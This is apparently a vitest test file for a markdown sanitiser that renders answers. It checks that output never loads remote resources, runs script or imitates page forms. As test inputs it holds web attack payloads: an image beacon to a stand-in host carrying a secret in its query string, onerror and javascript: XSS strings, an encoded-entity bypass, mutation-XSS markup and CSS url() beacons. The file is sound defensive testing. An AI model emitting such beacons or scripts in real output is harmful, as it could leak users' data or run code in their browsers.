import { describe, expect, it } from "vitest";
import { toBlocks } from "../src/markdown/blocks";
import { sanitise, sanitiseColours } from "../src/markdown/sanitise";

function shown(markdown: string): HTMLElement {
  const body = document.createElement("div");
  for (const block of toBlocks(markdown).blocks) if (block.kind === "html") body.append(sanitise(block.html));
  return body;
}

describe("an answer", () => {
  it.each([
    "![x](https://evil.example/beacon.png?secret=1)",
    '<img src="https://evil.example/a.png" onerror="alert(1)">',
    "<video src=https://evil.example/v.mp4 poster=https://evil.example/p.png></video>",
    "<picture><source srcset=https://evil.example/a.png></picture>",
    "<iframe src=https://evil.example></iframe><object data=https://evil.example></object><embed src=//evil.example>",
    "<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example>",
    '<svg><image href="https://evil.example/a.png"/><use href="#x"/></svg>',
    '<div style="background:url(https://evil.example/a.png)">x</div>',
    "<style>*{background:url(https://evil.example)}</style>",
    '<audio src="https://evil.example/a.mp3"></audio><input type=image src=https://evil.example/a.png>',
  ])("never loads anything by itself: %s", (markdown) => {
    const body = shown(markdown);
    const loading =
      "img,video,audio,source,iframe,object,embed,link,base,svg,image,style,script,input,[src],[srcset],[style]";
    expect(body.querySelectorAll(loading)).toHaveLength(0);
  });

  it.each([
    "<script>alert(1)</script>",
    "<p onclick=alert(1)>x</p>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<form action=/oidc/token><button name=x>Sign in</button></form>",
    '<p id="app" class="composer" name="body">x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  ])("neither runs, nor asks, nor dresses up as the page: %s", (markdown) => {
    const body = shown(markdown);
    expect(
      body.querySelectorAll("script,form,button,input,math,style,img,[onclick],[onerror],[id],[class],[name]"),
    ).toHaveLength(0);
    expect([...body.querySelectorAll("a[href]")]).toEqual([]);
  });

  it("shows an image as a link that nothing fetches until it is clicked", () => {
    const link = shown("![a cat](https://example.com/cat.png)").querySelector("a");
    expect(link?.textContent).toBe("a cat");
    expect(link?.href).toBe("https://example.com/cat.png");
    expect(link?.rel).toContain("noopener");
  });

  it("opens links elsewhere, without telling where from", () => {
    const link = shown("[docs](https://example.com)").querySelector("a");
    expect([link?.target, link?.rel]).toEqual(["_blank", "noopener noreferrer nofollow"]);
  });

  it("keeps what markdown can say", () => {
    const body = shown(
      "# T\n\n**b** *i* ~~s~~ `c`\n\n- a\n  - b\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n> q\n\n1. one\n",
    );
    for (const tag of ["h1", "strong", "em", "del", "code", "ul ul", "table", "td[align=right]", "blockquote", "ol"]) {
      expect(body.querySelector(tag), tag).not.toBeNull();
    }
  });

  it("keeps the language of code inside a list", () => {
    expect(shown("- a\n\n  ```python\n  x = 1\n  ```\n").querySelector("code")?.lang).toBe("python");
  });

  it("colours code with classes and nothing else", () => {
    const fragment = sanitiseColours('<span class="hljs-string" style="x" onclick="y">a</span><img src=x>');
    expect(fragment.querySelectorAll("img,[style],[onclick]")).toHaveLength(0);
    expect(fragment.querySelector("span")?.className).toBe("hljs-string");
  });
});
